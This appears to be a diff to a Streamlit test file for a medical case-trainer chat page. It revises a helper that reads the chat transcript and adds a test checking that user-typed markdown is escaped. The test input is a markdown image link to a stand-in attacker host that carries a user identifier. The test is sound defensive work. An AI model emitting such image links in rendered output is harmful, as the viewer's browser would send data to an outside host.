@@ -10,7 +10,14 @@ PAGE = str(Path(__file__).resolve().parents[2] / "pages" / "case_trainer.py")
 
 
 def _chat(at):
-    return [m.markdown[0].value for m in at.chat_message if m.markdown]
+    """Each turn as read: the student's typed text (st.text) and the patient's reply (escaped markdown)."""
+    out = []
+    for m in at.chat_message:
+        if m.text:
+            out.append(m.text[0].value)
+        elif m.markdown:
+            out.append(m.markdown[0].value.replace("\\", ""))
+    return out
 
 
 def _start(at, seed=7, condition="myocardial_infarction"):
@@ -73,3 +80,14 @@ def test_bad_input_gets_a_message_not_a_traceback(settings):
     assert "not sure what you mean" in _chat(at)[-1]
     at.get("form_submit_button")[0].click().run()  # nothing chosen
     assert not at.exception and any("Choose a leading diagnosis" in w.value for w in at.warning)
+
+
+def test_typed_markdown_is_shown_as_text(settings):
+    # A markdown image in a rendered message is fetched by the viewer's browser (tracking, exfiltration).
+    at = AppTest.from_file(PAGE, default_timeout=120).run()
+    _start(at, seed=3, condition="pneumonia")
+    typed = "Do you have a cough? ![x](http://evil.example/t.png?u=student)"
+    at.chat_input(key="case_input").set_value(typed).run()
+    assert not at.exception
+    assert typed in [t.value for m in at.chat_message for t in m.text]
+    assert not any("](http" in md.value for m in at.chat_message for md in m.markdown)
